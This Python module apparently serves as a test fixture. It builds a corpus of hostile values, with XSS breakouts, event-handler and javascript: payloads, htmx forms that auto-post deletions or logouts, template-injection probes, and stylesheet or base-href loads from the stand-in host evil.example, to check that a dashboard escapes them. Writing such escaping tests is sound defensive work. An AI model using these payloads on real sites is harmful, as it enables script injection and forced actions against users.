"""A corpus of hostile values for the dashboard's escaping tests, built from parts.

Each value ends with a marker ``⟦n⟧`` (n: its index) so a test can find it in a page's text and
check that everything before the marker is the value itself, as text. Payloads that would run
call ``__pwned(n)`` (a function the browser test exposes) or ``alert(n)``; payloads that would
send a request name ``/ui/...?pwned=n`` or an external host. The parts are the places a value
can land in a page (element text, an attribute, a JSON script block, RCDATA such as
``<textarea>`` and ``<title>``, a comment) and the ways out of each.
"""

from __future__ import annotations

MARK_OPEN, MARK_CLOSE = "\u27e6", "\u27e7"

# Ways out of the context a value is written in.
BREAKOUTS = [
    "",
    '">',
    "'>",
    "`>",
    "</script>",
    "</ScRiPt >",
    "</textarea>",
    "</title>",
    "</pre>",
    "</code>",
    "</option></select>",
    "-->",
    "]]>",
    "</style>",
    "</noscript>",
    "</template>",
    "</td></tr></table>",
    '"/>',
    "</a></strong>",
    "<!--",
]

# What an attacker puts after the way out ({n}: the value's index).
ACTIONS = [
    "<script>__pwned({n})</script>",
    "<img src=x onerror=__pwned({n})>",
    "<svg onload=__pwned({n})>",
    "<svg><script>__pwned({n})</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned({n})>",
    "<details open ontoggle=__pwned({n})>",
    "<input autofocus onfocus=__pwned({n})>",
    '<iframe srcdoc="<script>parent.__pwned({n})</script>"></iframe>',
    '<a href="javascript:__pwned({n})" id=pwn{n}>x</a>',
    '<form hx-post="/ui/memories/{victim}/delete" hx-trigger="load"><input name=confirm value=yes></form>',
    '<form hx-post="/ui/logout" hx-trigger="load"></form>',
    '<div hx-get="/ui/audit?pwned={n}" hx-trigger="load"></div>',
    '<div hx-on:htmx:load="__pwned({n})" data-hx-get="/ui/?pwned={n}" data-hx-trigger="load">',
    '<meta http-equiv="refresh" content="0;url=/ui/?pwned={n}">',
    '<base href="http://evil.example/">',
    '<object data="javascript:__pwned({n})"></object>',
    "<body onload=alert({n})>",
    "<style>@import 'http://evil.example/{n}.css';</style>",
    '<link rel=stylesheet href="http://evil.example/{n}.css">',
    "<video><source onerror=__pwned({n})></video>",
    '<meta name="htmx-config" content=\'{{"allowEval":true}}\'>',
]

# Values written into an attribute, a URL or a template.
ATTRIBUTES = [
    '" onmouseover="__pwned({n})" x="',
    "' onfocus='__pwned({n})' autofocus x='",
    '" autofocus onfocus="__pwned({n})',
    '" hx-get="/ui/audit?pwned={n}" hx-trigger="load',
    "' hx-post='/ui/logout' hx-trigger='load",
    '" style="background:url(javascript:__pwned({n}))',
    "javascript:__pwned({n})",
    "JaVaScRiPt:__pwned({n})",
    "java\tscript:__pwned({n})",
    "&#106;avascript:__pwned({n})",
    "data:text/html,<script>__pwned({n})</script>",
    "vbscript:msgbox({n})",
    "//evil.example/{n}",
    "/ui/logout?pwned={n}",
]
TEMPLATES = [
    "{{{{7*7}}}}",
    "{{{{ 7*'7' }}}}",
    "{{% print(7*7) %}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{{{constructor.constructor('__pwned({n})')()}}}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "[[${{7*7}}]]",
    "{{{{",
    "{{%",
    "{{#",
]
STYLES = [
    '<div style="background:url(javascript:__pwned({n}))">',
    "</style><img src=x onerror=__pwned({n})>",
    "x{{}}*{{background:red}}",
    "expression(__pwned({n}))",
    "<style>*{{display:none}}</style>",
    "@import url(//evil.example/{n}.css);",
]
ENTITIES = [
    "&lt;script&gt;__pwned({n})&lt;/script&gt;",
    "&#60;script&#62;__pwned({n})&#60;/script&#62;",
    "&#x3C;img src=x onerror=__pwned({n})&#x3E;",
    "&amp;lt;b&amp;gt;",
    "&quot; onmouseover=__pwned({n}) &quot;",
    "&apos;&NewLine;&Tab;",
    "&#0;&#x110000;&#xD800;",
    "&lt",
]
BIDI = [
    "\u202eevil\u202c.exe",
    "\u2066isolated\u2069 \u2067rtl\u2069",
    "\u200f\u200e\u061c",
    "\u202a<script>__pwned({n})</script>\u202c",
    "abc\u202edcba",
]
CONTROLS = [
    "\x00<script>__pwned({n})</script>",
    "a\x00b\x00c",
    "".join(chr(c) for c in range(1, 32)),
    "\x7f\x80\x9f\x85",
    "\u2028</script>\u2029",
    "\ufeff<svg onload=__pwned({n})>",
    "\r\n\r\n<h1>header split</h1>",
    "\x1b[31mred\x1b[0m",
    "\x0c\x0b",
]
ESCAPES = [
    "\\u003cscript\\u003e__pwned({n})\\u003c/script\\u003e",
    "\\x3cscript\\x3e__pwned({n})",
    "%3Cscript%3E__pwned({n})%3C/script%3E",
    "\uff1cscript\uff1e__pwned({n})\uff1c/script\uff1e",
    '\\"}}]}}</script><script>__pwned({n})</script>',
    '"}},"weeks":["x"],"added":{{"a":"',
    "<!--<script>__pwned({n})</script>-->",
    "<![CDATA[<script>__pwned({n})</script>]]>",
    '<?xml version="1.0"?><x/>',
    "<!DOCTYPE html><html>",
    "<plaintext>",
    "<xmp><script>__pwned({n})</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=__pwned({n})>">',
]
LONG = [
    "A" * 20_000 + "<script>__pwned({n})</script>",
    "<" * 5_000,
    "&" * 3_000 + ";",
    "\u202e" * 500 + "end",
    ("</script>" * 300)[:2_700],
]


def _combined() -> list[str]:
    """Each way out with ten of the actions (a different ten for each), 200 in all."""
    found = []
    for b, breakout in enumerate(BREAKOUTS):
        for k in range(10):
            found.append(breakout + ACTIONS[(b * 7 + k) % len(ACTIONS)])
    return found


def hostile_values(victim: str = "01JDEADBEEF0000000000000000") -> list[str]:
    """Every value of the corpus (over 250), each ending with its marker; ``victim``: the id of
    a memory the htmx payloads try to delete (the attack issue 33 found)."""
    parts = [*_combined(), *ATTRIBUTES, *TEMPLATES, *STYLES, *ENTITIES, *BIDI, *CONTROLS, *ESCAPES, *LONG]
    values = []
    for n, part in enumerate(parts):
        values.append(f"{part.format(n=n, victim=victim)}{marker(n)}")
    return values


def marker(n: int) -> str:
    return f"{MARK_OPEN}{n}{MARK_CLOSE}"


def squash(text: str) -> str:
    """``text`` without white space, NUL or U+FFFD: the HTML parser drops NUL in text (U+FFFD in
    ``<textarea>``), turns CR into LF, and a page may flatten white space (review previews)."""
    return "".join(text.split()).replace("\x00", "").replace("\ufffd", "")


def intact_and_broken(texts: list[str], values: list[str]) -> tuple[set[int], list[str]]:
    """Which values appear whole in one of the page's text nodes, and what looked like a value
    (its marker) but was not whole before it: markup the parser took from it, or a mangled
    value. A value cut short (lists show the first 80 or 300 characters) loses its marker and is
    neither."""
    intact: set[int] = set()
    broken: list[str] = []
    for text in texts:
        if MARK_OPEN not in text:
            continue
        flat = squash(text)
        at = flat.find(MARK_OPEN)
        while at >= 0:
            end = flat.find(MARK_CLOSE, at)
            number = flat[at + 1 : end]
            if end < 0 or not number.isdigit() or int(number) >= len(values):
                break
            n = int(number)
            if flat[: end + 1].endswith(squash(values[n])):
                intact.add(n)
            else:
                broken.append(f"value {n}: the text before its marker is {flat[max(0, at - 60) : end + 1]!r}")
            at = flat.find(MARK_OPEN, end)
    return intact, broken
